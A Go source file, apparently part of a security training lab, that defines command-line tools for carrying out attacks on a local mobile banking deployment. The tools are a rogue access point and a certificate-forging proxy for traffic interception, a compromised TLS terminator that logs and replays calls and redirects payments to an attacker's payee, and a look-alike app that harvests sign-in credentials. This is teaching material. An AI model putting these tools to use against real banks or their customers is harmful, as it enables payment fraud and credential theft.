package main

import (
	"context"
	"crypto/ecdsa"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httputil"
	"os"
	"strings"
	"sync"

	"github.com/spf13/cobra"

	"keyladder/internal/deployment"
	"keyladder/internal/pki"
	"keyladder/internal/program"
	"keyladder/internal/traffic"
	"keyladder/mobileclient/attacker/attack"
	"keyladder/mobileclient/attacker/lookalike"
	"keyladder/mobileclient/attacker/network"
	"keyladder/stages/catalog"
	"keyladder/stages/workshop/scene"
	"keyladder/stages/workshop/terminator"
)

// interceptCommand has the places where somebody stands who carries out an attack by hand.
func interceptCommand() *cobra.Command {
	c := &cobra.Command{
		Use:   "intercept",
		Short: "Stand where an attack by hand needs it: in a network, as a proxy, at the end of TLS, behind an app",
		Long: `Stand where an attack by hand needs it, beside a running deployment. What comes by is
printed; Ctrl-C ends it. The pages of the attacks say which one to start, and when.`,
	}
	c.AddCommand(networkCommand(), proxyCommand(), terminatorCommand(), sendCommand(), lookAlikeCommand())
	return c
}

// post is a place to stand.
type post struct {
	dir, address string
	printing     sync.Mutex
}

func (p *post) flags(c *cobra.Command, address string) {
	dataFlag(c, &p.dir)
	c.Flags().StringVar(&p.address, "listen", address, "`HOST:PORT` to listen at")
}

// open opens the attacker's folder, for the way to the API.
func (p *post) open() (*deployment.Folder, error) {
	return new(program.Places).Open(p.dir, deployment.Attacker)
}

// uplink is the way on to the API, with a client certificate or none. Messages that pass are printed.
func (p *post) uplink(c *cobra.Command, certificates ...tls.Certificate) (network.Uplink, error) {
	folder, err := p.open()
	if err != nil {
		return network.Uplink{}, err
	}
	trusted, err := folder.Read("roots.pem")
	if err != nil {
		return network.Uplink{}, err
	}
	roots, err := pki.Pool(trusted)
	if err != nil {
		return network.Uplink{}, fmt.Errorf("read roots.pem: %w", err)
	}
	return network.Uplink{
		Listen: p.address, Routes: folder.Addresses.Routes(),
		TLS:    &tls.Config{MinVersion: tls.VersionTLS12, RootCAs: roots, Certificates: certificates},
		Record: func(m traffic.Message) { p.message(c.OutOrStdout(), m) },
	}, nil
}

// message prints what passed: a request or a response as it was, or a remark about it.
func (p *post) message(out io.Writer, m traffic.Message) {
	if m.Kind == traffic.Note {
		p.print(out, "# %s\n\n", m.Summary)
		return
	}
	p.print(out, "%s\r\n%s\n\n", m.Head, m.Body)
}

func (p *post) print(out io.Writer, format string, args ...any) {
	p.printing.Lock()
	defer p.printing.Unlock()
	fmt.Fprintf(out, format, args...)
}

// stay says that all is ready, and waits until it is to end.
func (p *post) stay(c *cobra.Command) error {
	fmt.Fprintf(c.ErrOrStderr(), "listening at %s; Ctrl-C ends it\n", p.address)
	<-c.Context().Done()
	return nil
}

func networkCommand() *cobra.Command {
	var p post
	var payee string
	c := &cobra.Command{
		Use:   "network",
		Short: "Be the access point of a wireless network, and listen; or change the payee of payments",
		Long: `Be the access point of a wireless network, which phones join with mobileclient
--access-point. What is in the clear is printed as it passed, of what is encrypted only how
much there was. With --payee, payments are changed on their way; where they are encrypted, the
access point answers in the server's place, with a certificate that nobody has issued.`,
		Args: cobra.NoArgs,
		RunE: func(c *cobra.Command, _ []string) error {
			uplink, err := p.uplink(c)
			if err != nil {
				return err
			}
			var tamper network.Tampering
			if payee != "" {
				tamper = network.ToAccount(payee)
			}
			ap, err := network.NewAccessPoint(c.Context(), uplink, tamper)
			if err != nil {
				return err
			}
			defer ap.Close()
			ap.Hear = func(data []byte, encrypted bool) {
				if encrypted {
					p.print(c.OutOrStdout(), "# %d bytes, encrypted\n", len(data))
					return
				}
				p.print(c.OutOrStdout(), "%s\n", data)
			}
			return p.stay(c)
		},
	}
	p.flags(c, "127.0.0.1:8082")
	c.Flags().StringVar(&payee, "payee", "", "`ACCOUNT` to which all payments go")
	return c
}

func proxyCommand() *cobra.Command {
	var p post
	var authority, key, certificate string
	c := &cobra.Command{
		Use:   "proxy",
		Short: "Be an HTTP proxy that makes certificates on the fly, as mitmproxy does, and print what passes",
		Long: `Be an HTTP proxy that makes certificates on the fly, as mitmproxy does, and print what
passes. It works on phones whose owner trusts its CA, which is new each time: mobileclient
--proxy http://127.0.0.1:8081 --trust own-ca.pem`,
		Args: cobra.NoArgs,
		RunE: func(c *cobra.Command, _ []string) error {
			var shown []tls.Certificate
			if certificate != "" {
				pair, err := tls.LoadX509KeyPair(certificate, certificate)
				if err != nil {
					return fmt.Errorf("read %s: %w", certificate, err)
				}
				shown = append(shown, pair)
			}
			uplink, err := p.uplink(c, shown...)
			if err != nil {
				return err
			}
			ca, err := newAuthority(key)
			if err != nil {
				return err
			}
			if err := os.WriteFile(authority, ca.PEM(), 0o644); err != nil {
				return err
			}
			proxy, err := network.NewInterceptor(uplink, ca)
			if err != nil {
				return err
			}
			defer proxy.Close()
			return p.stay(c)
		},
	}
	p.flags(c, "127.0.0.1:8081")
	c.Flags().StringVar(&authority, "ca", "own-ca.pem", "`FILE` to write the CA's certificate to")
	c.Flags().StringVar(&key, "key", "", "PEM `FILE` with the P-256 key for all server certificates (default: a new one)")
	c.Flags().StringVar(&certificate, "cert", "", "PEM `FILE` with a client certificate and its key, to show to the API")
	return c
}

// newAuthority makes a CA whose server certificates have the key in the file; empty: a new one.
func newAuthority(path string) (*network.Authority, error) {
	if path == "" {
		return network.NewAuthority()
	}
	text, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	block, _ := pem.Decode(text)
	if block == nil {
		return nil, fmt.Errorf("read %s: no PEM in it", path)
	}
	if key, err := x509.ParseECPrivateKey(block.Bytes); err == nil {
		return network.NewAuthorityWith(key)
	}
	key, err := x509.ParsePKCS8PrivateKey(block.Bytes)
	if err != nil {
		return nil, fmt.Errorf("read %s: %w", path, err)
	}
	ec, ok := key.(*ecdsa.PrivateKey)
	if !ok {
		return nil, fmt.Errorf("read %s: not a key of an elliptic curve", path)
	}
	return network.NewAuthorityWith(ec)
}

// calledIn is a call as a machine behind the end of TLS logs it, one a line.
type calledIn struct {
	Method      string      `json:"method"`
	Path        string      `json:"path"` // with the query
	Header      http.Header `json:"header"`
	Body        string      `json:"body,omitempty"`
	Certificate []byte      `json:"certificate,omitempty"` // that the client has shown, DER
}

func terminatorCommand() *cobra.Command {
	var p post
	var payee string
	var gateway bool
	c := &cobra.Command{
		Use:   "terminator",
		Short: "Be the bank's TLS terminator, and log complete calls; or change the payee of payments",
		Long: `Be the TLS terminator in front of the bank's API, with the bank's certificate, as somebody
is who has broken into it. Phones come by with mobileclient --access-point, which stands for
the bank's DNS. Each call is logged as a line of JSON, as it came out of TLS; "stages intercept
send" sends one to the API from there. With --payee, payments are changed before they are
passed on; what can't be read is replaced.`,
		Args: cobra.NoArgs,
		RunE: func(c *cobra.Command, _ []string) error {
			folder, err := p.open()
			if err != nil {
				return err
			}
			bad, api, err := scene.NewTerminator(folder, gateway)
			if err != nil {
				return err
			}
			bad.Log = func(call terminator.Call) {
				line, err := json.Marshal(calledIn{call.Method, call.Path, call.Header, string(call.Body), call.ClientCert})
				if err == nil {
					p.print(c.OutOrStdout(), "%s\n", line)
				}
			}
			if payee != "" {
				bad.OnRequest = func(r *http.Request, body []byte) []byte {
					call := attack.Captured{Method: r.Method, Target: r.URL.RequestURI(), Header: r.Header, Body: body}
					if call.PayTo(payee) {
						fmt.Fprintln(c.ErrOrStderr(), "changed:", r.Method, call.Target)
					}
					return call.Body
				}
			}
			road, err := net.Listen("tcp", p.address)
			if err != nil {
				return err
			}
			ctx, cancel := context.WithCancel(c.Context())
			ended := make(chan error, 1)
			go func() {
				ended <- bad.ServeRoad(ctx, road, api, folder.Addresses.URL(deployment.PlainAPI))
				cancel()
			}()
			c.SetContext(ctx)
			err = p.stay(c)
			cancel()
			return errors.Join(err, <-ended)
		},
	}
	p.flags(c, "127.0.0.1:8082")
	c.Flags().StringVar(&payee, "payee", "", "`ACCOUNT` to which all payments go")
	c.Flags().BoolVar(&gateway, "gateway", false, "stand in front of the gateway, where apps find the API there, in place of the API")
	return c
}

func sendCommand() *cobra.Command {
	var p post
	c := &cobra.Command{
		Use:   "send",
		Short: "Send a call to the API from behind the TLS terminator: a line of its log, from standard input",
		Long: `Send a call to the API from behind the TLS terminator: a line of its log, from standard
input. The answer is printed as it comes:

  grep transfers calls.log | tail -n 1 | go run ./stages intercept send`,
		Args: cobra.NoArgs,
		RunE: func(c *cobra.Command, _ []string) error {
			var call calledIn
			if err := json.NewDecoder(c.InOrStdin()).Decode(&call); err != nil {
				return fmt.Errorf("read a line of the terminator's log: %w", err)
			}
			folder, err := p.open()
			if err != nil {
				return err
			}
			slug, _, _ := strings.Cut(strings.TrimPrefix(call.Path, "/"), "/")
			stage, _ := catalog.All().Lookup(slug)
			bad, _, err := scene.NewTerminator(folder, stage.Call.Gateway == catalog.ThroughGateway)
			if err != nil {
				return err
			}
			header := call.Header.Clone()
			if header == nil {
				header = http.Header{}
			}
			header.Del(traffic.Header) // it is another exchange than the one that was logged
			resp, err := bad.Send(c.Context(), terminator.Call{
				Method: call.Method, Path: call.Path, Header: header, Body: []byte(call.Body),
				ClientCert: call.Certificate, Address: "127.0.0.1",
			})
			if err != nil {
				return err
			}
			defer resp.Body.Close()
			answer, err := httputil.DumpResponse(resp, true)
			if err != nil {
				return err
			}
			_, err = c.OutOrStdout().Write(append(answer, '\n'))
			return err
		},
	}
	dataFlag(c, &p.dir)
	return c
}

func lookAlikeCommand() *cobra.Command {
	var p post
	var claims bool
	c := &cobra.Command{
		Use:   "look-alike PACKAGE LOOKALIKE",
		Short: "Pack an app that looks like the one in a package, and print what people type into it",
		Long: `Pack an app with the label and the pictures of the one in a package, and with another
program: it shows the same sign-in, and sends what is typed to the server that this command
is. What comes is printed as lines of JSON. With --claim-links it claims the links of the other
app as well, and sends those.`,
		Args: exactly(2, "a package of the bank's app, and a file for the other"),
		RunE: func(c *cobra.Command, args []string) error {
			collector, err := lookalike.NewCollector(p.address)
			if err != nil {
				return err
			}
			defer collector.Close()
			collector.Told = func(typed lookalike.Typed) {
				if line, err := json.Marshal(typed); err == nil {
					p.print(c.OutOrStdout(), "%s\n", line)
				}
			}
			pack := lookalike.Pack
			if claims {
				pack = lookalike.PackThief
			}
			if err := pack(args[0], args[1], collector.URL()); err != nil {
				return err
			}
			fmt.Fprintf(c.ErrOrStderr(), "packed %s, signed with a key of its own\n", args[1])
			return p.stay(c)
		},
	}
	c.Flags().StringVar(&p.address, "listen", "127.0.0.1:8083", "`HOST:PORT` to listen at")
	c.Flags().BoolVar(&claims, "claim-links", false, "claim the links that lead back to the other app")
	return c
}
